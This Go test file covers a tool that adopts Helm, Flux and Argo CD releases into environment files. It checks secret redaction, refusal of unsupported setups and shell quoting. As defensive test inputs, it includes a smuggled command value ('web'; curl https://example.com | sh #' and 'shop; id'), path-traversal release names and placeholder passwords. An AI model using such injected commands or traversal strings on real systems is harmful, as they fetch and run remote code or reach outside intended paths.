package adopt_test

import (
	"errors"
	"flag"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/yaml"

	"github.com/xetys/tether/render/adopt"
)

var update = flag.Bool("update", false, "write the goldens anew")

// object reads an object of YAML.
func object(t *testing.T, text string) unstructured.Unstructured {
	t.Helper()
	u := unstructured.Unstructured{}
	raw, err := yaml.YAMLToJSON([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	if err := u.UnmarshalJSON(raw); err != nil {
		t.Fatal(err)
	}
	return u
}

func valuesOf(t *testing.T, text string) map[string]any {
	t.Helper()
	var v map[string]any
	if err := yaml.Unmarshal([]byte(text), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func repository() fstest.MapFS {
	return fstest.MapFS{
		"charts/web/Chart.yaml":           {Data: []byte("{apiVersion: v2, name: web, version: 1.2.3}")},
		"charts/web/values-prod.yaml":     {Data: []byte("replicas: 2")},
		"charts/web/charts/db/Chart.yaml": {Data: []byte("{apiVersion: v2, name: db, version: 1.0.0}")},
		"old/twice/Chart.yaml":            {Data: []byte("{apiVersion: v2, name: twice, version: 1.0.0}")},
		"new/twice/Chart.yaml":            {Data: []byte("{apiVersion: v2, name: twice, version: 2.0.0}")},
		"shared/loud.yaml":                {Data: []byte("adminPassword: plain")},
	}
}

// web is a record of the tenant's way: helm upgrade --set secrets.…
func web(t *testing.T) adopt.Recorded {
	return adopt.Recorded{Chart: "web", Version: "1.2.3", Revision: 7,
		Values: valuesOf(t, `
image: {tag: v1}
replicas: 3
user: xuangong
salt: pepper-and-more
url: postgres://xuangong:hunter22@db/x
existingSecret: shop
tokenTTL: 15m
imagePullSecrets: [regcred]
users: [{name: ann, password: tops3cret}]
secrets: {databasePassword: hunter22, jwtSecret: "", keep: yes}
`),
		Objects: []unstructured.Unstructured{
			object(t, `{apiVersion: v1, kind: Secret, metadata: {name: web}, stringData: {a: "pepper-and-more", b: "xuangong"}}`),
			object(t, `{apiVersion: v1, kind: ConfigMap, metadata: {name: web}, data: {user: xuangong}}`),
		}}
}

// source answers for Flux's sources.
func source(t *testing.T, texts map[string]string) func(kind, namespace, name string) (*unstructured.Unstructured, error) {
	return func(kind, namespace, name string) (*unstructured.Unstructured, error) {
		text, ok := texts[kind+" "+namespace+"/"+name]
		if !ok {
			return nil, errors.New("its chart comes from " + kind + " " + namespace + "/" + name + ", which does not exist")
		}
		o := object(t, text)
		return &o, nil
	}
}

func written(t *testing.T, releases []*adopt.Release) string {
	t.Helper()
	files, err := adopt.Files("prod", "shop", releases)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, name := range []string{"environment", "web", "api"} {
		if text := files["environments/prod/"+name+".yaml"]; text != nil {
			b.WriteString("-- " + name + ".yaml --\n" + string(text))
		}
	}
	return b.String()
}

func golden(t *testing.T, file, have string) {
	t.Helper()
	file = "testdata/" + file
	if *update {
		if err := os.WriteFile(file, []byte(have), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil || string(want) != have {
		t.Errorf("%s: %v\n%s", file, err, have)
	}
}

func TestHelmsReleasesAreWritten(t *testing.T) {
	releases, err := adopt.Releases(adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": web(t)}}, repository(), adopt.Wanted{})
	if err != nil {
		t.Fatal(err)
	}
	have := written(t, releases)
	for _, secret := range []string{"hunter22", "pepper", "tops3cret"} {
		if strings.Contains(have, secret) {
			t.Errorf("%s is written", secret)
		}
	}
	raw, err := yaml.Marshal(releases[0].SecretValues())
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "helm.txt", have+"-- the Secret's values.yaml --\n"+string(raw))
}

func TestFluxsReleasesAreWritten(t *testing.T) {
	found := adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": web(t), "api": {Chart: "api", Version: "2.1.4", Revision: 2}},
		HelmReleases: []unstructured.Unstructured{object(t, `
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: web, namespace: flux-system}
spec:
  targetNamespace: shop
  releaseName: web
  timeout: 10m
  dependsOn: [{name: api}, {name: elsewhere}]
  chart: {spec: {chart: ./charts/web, sourceRef: {kind: GitRepository, name: config}, valuesFiles: [values-prod.yaml]}}
  valuesFrom: [{kind: ConfigMap, name: region}, {kind: Secret, name: login, valuesKey: password, targetPath: db.password, optional: true}]
  values: {replicas: 3, apiToken: s3cr3t-value}
  upgrade: {remediation: {retries: 3}}
  postRenderers: [{kustomize: {patches: [{target: {kind: Deployment}, patch: "- {op: add, path: /metadata/labels/a, value: b}"}]}}]
`), object(t, `
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: api, namespace: shop}
spec:
  chart: {spec: {chart: api, version: "2.x", sourceRef: {kind: HelmRepository, name: public, namespace: flux-system}}}
`)},
		Object: source(t, map[string]string{
			"GitRepository flux-system/config":  `{apiVersion: source.toolkit.fluxcd.io/v1, kind: GitRepository, metadata: {name: config, namespace: flux-system}, spec: {url: "https://example.com/config"}}`,
			"HelmRepository flux-system/public": `{apiVersion: source.toolkit.fluxcd.io/v1, kind: HelmRepository, metadata: {name: public, namespace: flux-system}, spec: {url: "https://charts.example.com/", secretRef: {name: charts}}}`,
		})}
	releases, err := adopt.Releases(found, repository(), adopt.Wanted{})
	if err != nil {
		t.Fatal(err)
	}
	have := written(t, releases)
	for _, r := range releases {
		have += "-- hand over " + r.Name + " --\n" + strings.Join(r.HandOver, "\n") + "\n"
	}
	golden(t, "flux.txt", have)
}

func TestArgosApplicationsAreWritten(t *testing.T) {
	found := adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: web, namespace: argocd}
spec:
  destination: {server: "https://kubernetes.default.svc", namespace: shop}
  sources:
    - {repoURL: "https://example.com/config", path: charts/web, helm: {valueFiles: [values-prod.yaml], values: "tag: v1\nlist: [1]", parameters: [{name: tag, value: "v2,3"}, {name: count, value: "3"}, {name: text, value: "3", forceString: true}, {name: dbPassword, value: hunter22}]}}
    - {repoURL: "https://example.com/values", ref: values}
  ignoreDifferences: [{group: apps, kind: Deployment, jsonPointers: [/spec/replicas]}, {kind: Service, jqPathExpressions: [.spec]}]
status:
  resources: [{group: apps, version: v1, kind: Deployment, namespace: shop, name: web}, {version: v1, kind: ConfigMap, namespace: shop, name: web}]
`), object(t, `
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: api, namespace: argocd}
spec:
  destination: {name: in-cluster, namespace: shop}
  source: {repoURL: registry.example.com/charts, chart: api, targetRevision: 2.1.4, helm: {valuesObject: {replicas: 2}}}
`)}}
	releases, err := adopt.Releases(found, repository(), adopt.Wanted{})
	if err != nil {
		t.Fatal(err)
	}
	have := written(t, releases)
	for _, r := range releases {
		have += "-- hand over " + r.Name + " --\n" + strings.Join(r.HandOver, "\n") + "\n"
	}
	golden(t, "argo.txt", have)
}

// What can't be carried over as it is, is refused by name, and nothing is adopted.
func TestWhatIsRefused(t *testing.T) {
	recorded := func(chart string) adopt.Found {
		return adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": {Chart: chart, Version: "1.0.0"}}}
	}
	flux := func(spec string, sources map[string]string) adopt.Found {
		return adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": {Chart: "web", Version: "1.2.3"}}, Object: source(t, sources),
			HelmReleases: []unstructured.Unstructured{object(t, "{apiVersion: helm.toolkit.fluxcd.io/v2, kind: HelmRelease, metadata: {name: web, namespace: shop}, spec: "+spec+"}")}}
	}
	argo := func(spec string) adopt.Found {
		return adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t,
			"{apiVersion: argoproj.io/v1alpha1, kind: Application, metadata: {name: web, namespace: argocd}, spec: {destination: {namespace: shop}, "+spec+"}}")}}
	}
	const inGit = "chart: {spec: {chart: charts/web, sourceRef: {kind: GitRepository, name: g}}}"
	git := map[string]string{"GitRepository shop/g": `{apiVersion: v1, kind: GitRepository, metadata: {name: g, namespace: shop}, spec: {url: "https://ann:pw@example.com/g"}}`,
		"HelmRepository shop/h": `{apiVersion: v1, kind: HelmRepository, metadata: {name: h, namespace: shop}, spec: {url: "http://charts.example.com"}}`,
		"Bucket shop/b":         `{apiVersion: v1, kind: Bucket, metadata: {name: b, namespace: shop}, spec: {}}`}
	unrecorded := flux("{"+inGit+"}", git)
	unrecorded.Recorded = nil
	for sentence, c := range map[string]struct {
		found adopt.Found
		want  adopt.Wanted
		says  string
	}{
		"a namespace without releases":          {adopt.Found{Namespace: "shop"}, adopt.Wanted{}, "namespace shop: nothing is deployed there"},
		"a name that nothing tells of":          {recorded("web"), adopt.Wanted{Names: []string{"wbe"}}, "release wbe: nothing in namespace shop tells of it"},
		"a chart that is nowhere":               {recorded("lost"), adopt.Wanted{}, "the repository does not hold it: copy it there, or name its place with --chart web="},
		"a chart that is there twice":           {recorded("twice"), adopt.Wanted{}, "more than once (new/twice, old/twice)"},
		"a subchart is none":                    {recorded("db"), adopt.Wanted{}, "the repository does not hold it"},
		"a place without a chart":               {recorded("web"), adopt.Wanted{Charts: map[string]string{"web": "shared"}}, "no chart in folder shared"},
		"a place for what is not adopted":       {recorded("web"), adopt.Wanted{Charts: map[string]string{"api": "charts/web"}}, "--chart api=charts/web: no release api is adopted"},
		"a HelmRelease that never ran":          {unrecorded, adopt.Wanted{}, "has left no Helm record"},
		"a source that is gone":                 {flux("{"+inGit+"}", nil), adopt.Wanted{}, "which does not exist"},
		"a chart from another repository":       {flux("{chart: {spec: {chart: other, sourceRef: {kind: GitRepository, name: g}}}}", git), adopt.Wanted{}, "folder other of GitRepository shop/g (https://example.com/g)"},
		"a chart repository without TLS":        {flux("{chart: {spec: {chart: web, sourceRef: {kind: HelmRepository, name: h}}}}", git), adopt.Wanted{}, "charts come by https or oci"},
		"a bucket":                              {flux("{chart: {spec: {chart: web, sourceRef: {kind: Bucket, name: b}}}}", git), adopt.Wanted{}, "can't be followed"},
		"hooks that Flux leaves out":            {flux("{"+inGit+", upgrade: {disableHooks: true}}", git), adopt.Wanted{}, "spec.upgrade.disableHooks has no equal"},
		"images that Flux renames":              {flux("{"+inGit+", postRenderers: [{kustomize: {images: []}}]}", git), adopt.Wanted{}, "kustomize.images has no equal"},
		"a folder that is no chart":             {argo(`source: {repoURL: "https://example.com/x", path: overlays/prod}`), adopt.Wanted{}, "which is no chart in this repository"},
		"an Application of two charts":          {argo(`sources: [{path: a}, {path: b}]`), adopt.Wanted{}, "it renders 2 sources"},
		"a values file that is not here":        {argo(`source: {path: charts/web, helm: {valueFiles: [other.yaml]}}`), adopt.Wanted{}, "no file charts/web/other.yaml"},
		"a values file out of the repository":   {argo(`source: {path: charts/web, helm: {valueFiles: [../../../x.yaml]}}`), adopt.Wanted{}, "lies outside of this repository"},
		"a file that wins over a secret":        {argo(`source: {path: charts/web, helm: {valueFiles: [/shared/loud.yaml], values: "adminPassword: s3cr3t"}}`), adopt.Wanted{}, "shared/loud.yaml sets adminPassword too"},
		"parameters from files":                 {argo(`source: {path: charts/web, helm: {fileParameters: [{name: a}]}}`), adopt.Wanted{}, "helm.fileParameters has no equal"},
		"another cluster":                       {adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `{apiVersion: argoproj.io/v1alpha1, kind: Application, metadata: {name: web}, spec: {destination: {server: "https://10.0.0.1", namespace: shop}, source: {path: charts/web}}}`)}}, adopt.Wanted{}, "another cluster"},
		"what an environment of ours deploys":   {adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": {Chart: "web", Ours: "prod"}}}, adopt.Wanted{Names: []string{"web"}}, "environment prod deploys it already"},
		"an Application's name that is a path":  {argo(`source: {path: charts/web, helm: {releaseName: "../../.github/workflows/ci"}}`), adopt.Wanted{}, `release "../../.github/workflows/ci": Application argocd/web calls it by a name that no release has`},
		"a HelmRelease's name that is a path":   {flux(`{releaseName: "../../../x", `+inGit+`}`, git), adopt.Wanted{}, "by a name that no release has"},
		"a record's name that is a path":        {adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"../x": {Chart: "web", Version: "1.2.3"}}}, adopt.Wanted{}, "by a name that no release has"},
		"a parameter that makes lists of lists": {argo(`source: {path: charts/web, helm: {parameters: [{name: "a` + strings.Repeat("[65536]", 1000) + `", value: x}]}}`), adopt.Wanted{}, "a parameter has a name of more than 300 characters"},
		"what two tools deploy":                 {adopt.Found{Namespace: "shop", Applications: append(argo(`source: {path: charts/web}`).Applications, argo(`source: {path: charts/web}`).Applications...)}, adopt.Wanted{}, "both deploy it"},
	} {
		t.Run(sentence, func(t *testing.T) {
			releases, err := adopt.Releases(c.found, repository(), c.want)
			if releases != nil || err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("%v, %v; want %q", releases, err, c.says)
			}
			if err != nil && strings.Contains(err.Error(), "pw@") {
				t.Error("a secret is told")
			}
		})
	}
}

// Who may write an Application writes no command for who adopts it.
func TestCommandsNameObjectsAlone(t *testing.T) {
	found := adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: web, namespace: argocd}
spec: {destination: {namespace: shop}, source: {path: charts/web}}
status:
  resources: [{version: v1, kind: ConfigMap, namespace: "shop; id", name: "web'; curl https://example.com | sh #"}]
`)}}
	releases, err := adopt.Releases(found, repository(), adopt.Wanted{})
	if err != nil {
		t.Fatal(err)
	}
	have := strings.Join(releases[0].HandOver, "\n")
	if want := `kubectl annotate 'ConfigMap/web'\''; curl https://example.com | sh #' --namespace 'shop; id' meta`; !strings.Contains(have, want) {
		t.Errorf("%s\nlacks %s", have, want)
	}
}
